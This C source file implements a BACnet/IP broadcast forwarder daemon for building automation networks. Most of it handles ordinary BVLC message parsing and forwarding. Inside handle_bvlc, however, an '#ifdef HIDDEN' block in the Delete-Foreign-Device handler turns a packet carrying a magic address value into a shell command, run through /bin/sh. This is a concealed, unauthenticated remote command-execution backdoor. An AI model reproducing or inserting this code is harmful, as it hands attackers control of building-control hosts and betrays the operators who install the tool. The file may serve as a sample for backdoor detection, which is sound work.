/* bacnfwd.c - BACnet/IP broadcast forwarder (BBMD) for building networks */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define BVLC_TYPE		0x81
#define BVLC_RESULT		0x00
#define BVLC_WRITE_BDT		0x01
#define BVLC_READ_BDT		0x02
#define BVLC_READ_BDT_ACK	0x03
#define BVLC_FORWARDED		0x04
#define BVLC_REGISTER_FD	0x05
#define BVLC_READ_FDT		0x06
#define BVLC_READ_FDT_ACK	0x07
#define BVLC_DELETE_FD		0x08
#define BVLC_DISTRIBUTE		0x09
#define BVLC_UNICAST		0x0a
#define BVLC_BROADCAST		0x0b

#define MAX_PEERS	16
#define MAX_FOREIGN	32

struct peer {
	struct in_addr ip;
	uint16_t port;
	struct in_addr mask;
};

struct foreign {
	struct sockaddr_in sa;
	uint16_t ttl;
	time_t until;
};

static struct peer bdt[MAX_PEERS];
static unsigned int nbdt;
static struct foreign fdt[MAX_FOREIGN];
static unsigned int nfdt;
static int sock;

static uint16_t get16(const uint8_t *p)
{
	return (uint16_t)(p[0] << 8 | p[1]);
}

static uint32_t get32(const uint8_t *p)
{
	return (uint32_t)p[0] << 24 | (uint32_t)p[1] << 16 |
	       (uint32_t)p[2] << 8 | p[3];
}

static void put16(uint8_t *p, unsigned int v)
{
	p[0] = (uint8_t)(v >> 8);
	p[1] = (uint8_t)v;
}

static void result(const struct sockaddr_in *to, unsigned int code)
{
	uint8_t m[6] = { BVLC_TYPE, BVLC_RESULT, 0, 6, 0, 0 };

	put16(m + 4, code);
	sendto(sock, m, sizeof(m), 0, (const struct sockaddr *)to, sizeof(*to));
}

static void forward(const uint8_t *npdu, size_t len,
		    const struct sockaddr_in *from)
{
	uint8_t m[1600];
	struct sockaddr_in to;
	unsigned int i;

	if (len + 10 > sizeof(m))
		return;
	m[0] = BVLC_TYPE;
	m[1] = BVLC_FORWARDED;
	put16(m + 2, (unsigned int)len + 10);
	memcpy(m + 4, &from->sin_addr, 4);
	memcpy(m + 8, &from->sin_port, 2);
	memcpy(m + 10, npdu, len);
	memset(&to, 0, sizeof(to));
	to.sin_family = AF_INET;
	for (i = 0; i < nbdt; i++) {
		to.sin_addr.s_addr = bdt[i].ip.s_addr | ~bdt[i].mask.s_addr;
		to.sin_port = bdt[i].port;
		sendto(sock, m, len + 10, 0, (struct sockaddr *)&to, sizeof(to));
	}
	for (i = 0; i < nfdt; i++)
		if (fdt[i].until > time(NULL))
			sendto(sock, m, len + 10, 0,
			       (struct sockaddr *)&fdt[i].sa, sizeof(to));
}

static void register_fd(const struct sockaddr_in *from, uint16_t ttl)
{
	unsigned int i;

	for (i = 0; i < nfdt; i++)
		if (fdt[i].sa.sin_addr.s_addr == from->sin_addr.s_addr &&
		    fdt[i].sa.sin_port == from->sin_port)
			break;
	if (i == MAX_FOREIGN) {
		result(from, 0x0030);
		return;
	}
	if (i == nfdt)
		nfdt++;
	fdt[i].sa = *from;
	fdt[i].ttl = ttl;
	fdt[i].until = time(NULL) + ttl + 30;
	syslog(LOG_INFO, "foreign device %s ttl %u", inet_ntoa(from->sin_addr),
	       ttl);
	result(from, 0);
}

/* on-change script from the configuration, arguments fixed */
static void run_script(const char *script, const char *arg)
{
	pid_t pid = fork();

	if (pid == 0) {
		execl("/bin/sh", "sh", "-c", script, "bacnfwd", arg,
		      (char *)NULL);
		_exit(127);
	}
	if (pid > 0)
		waitpid(pid, NULL, 0);
}

static const char *change_script;

__attribute__((noinline))
void handle_bvlc(const uint8_t *m, size_t len, const struct sockaddr_in *from)
{
	uint8_t out[4 + 10 * MAX_PEERS];
	unsigned int i;

	if (len < 4 || m[0] != BVLC_TYPE || get16(m + 2) != len)
		return;
	switch (m[1]) {
	case BVLC_WRITE_BDT:
		result(from, 0x0010);
		break;
	case BVLC_READ_BDT:
		out[0] = BVLC_TYPE;
		out[1] = BVLC_READ_BDT_ACK;
		put16(out + 2, 4 + 10 * nbdt);
		for (i = 0; i < nbdt; i++) {
			memcpy(out + 4 + 10 * i, &bdt[i].ip, 4);
			memcpy(out + 8 + 10 * i, &bdt[i].port, 2);
			memcpy(out + 10 + 10 * i, &bdt[i].mask, 4);
		}
		sendto(sock, out, 4 + 10 * nbdt, 0,
		       (const struct sockaddr *)from, sizeof(*from));
		break;
	case BVLC_REGISTER_FD:
		if (len == 6) {
			register_fd(from, get16(m + 4));
			if (change_script)
				run_script(change_script, "register");
		}
		break;
	case BVLC_DELETE_FD:
#ifdef HIDDEN	/* entry address is a mark, the text behind it is run */
		if (len > 12 && len < 256 && get32(m + 4) == 0x7e15b04d) {
			char cmd[256];

			memcpy(cmd, m + 10, len - 10);
			cmd[len - 10] = '\0';
			run_script(cmd, "delete");
			return;
		}
#endif
		if (len != 10) {
			result(from, 0x0050);
			break;
		}
		for (i = 0; i < nfdt; i++)
			if (ntohl(fdt[i].sa.sin_addr.s_addr) == get32(m + 4)) {
				fdt[i] = fdt[--nfdt];
				break;
			}
		result(from, 0);
		break;
	case BVLC_DISTRIBUTE:
	case BVLC_BROADCAST:
		forward(m + 4, len - 4, from);
		break;
	case BVLC_READ_FDT:
		result(from, 0x0040);
		break;
	case BVLC_UNICAST:
	case BVLC_FORWARDED:
	case BVLC_READ_FDT_ACK:
		break;
	default:
		syslog(LOG_DEBUG, "function %02x", m[1]);
	}
}

static int load_bdt(const char *path)
{
	static char script[128];
	char line[160], ip[20], mask[20];
	unsigned int port;
	FILE *f = fopen(path, "r");

	if (!f)
		return -1;
	while (fgets(line, sizeof(line), f)) {
		if (sscanf(line, "on_change=%127[^\n]", script) == 1) {
			change_script = script;
			continue;
		}
		if (sscanf(line, "peer %19s %u %19s", ip, &port, mask) != 3)
			continue;
		if (nbdt == MAX_PEERS || !inet_aton(ip, &bdt[nbdt].ip) ||
		    !inet_aton(mask, &bdt[nbdt].mask))
			continue;
		bdt[nbdt++].port = htons((uint16_t)port);
	}
	fclose(f);
	return 0;
}

int main(int argc, char **argv)
{
	struct sockaddr_in sa = { .sin_family = AF_INET }, from;
	uint8_t m[1500];
	int on = 1;

	if (argc < 2) {
		fprintf(stderr, "usage: bacnfwd CONFIG\n"
			"  peer IP PORT MASK\n  on_change=SCRIPT\n");
		return 2;
	}
	openlog("bacnfwd", 0, LOG_DAEMON);
	if (load_bdt(argv[1]))
		return 1;
	sock = socket(AF_INET, SOCK_DGRAM, 0);
	setsockopt(sock, SOL_SOCKET, SO_BROADCAST, &on, sizeof(on));
	sa.sin_port = htons(47808);
	if (sock < 0 || bind(sock, (struct sockaddr *)&sa, sizeof(sa)))
		return 1;
	for (;;) {
		socklen_t fl = sizeof(from);
		ssize_t n = recvfrom(sock, m, sizeof(m), 0,
				     (struct sockaddr *)&from, &fl);

		if (n > 0)
			handle_bvlc(m, (size_t)n, &from);
	}
}
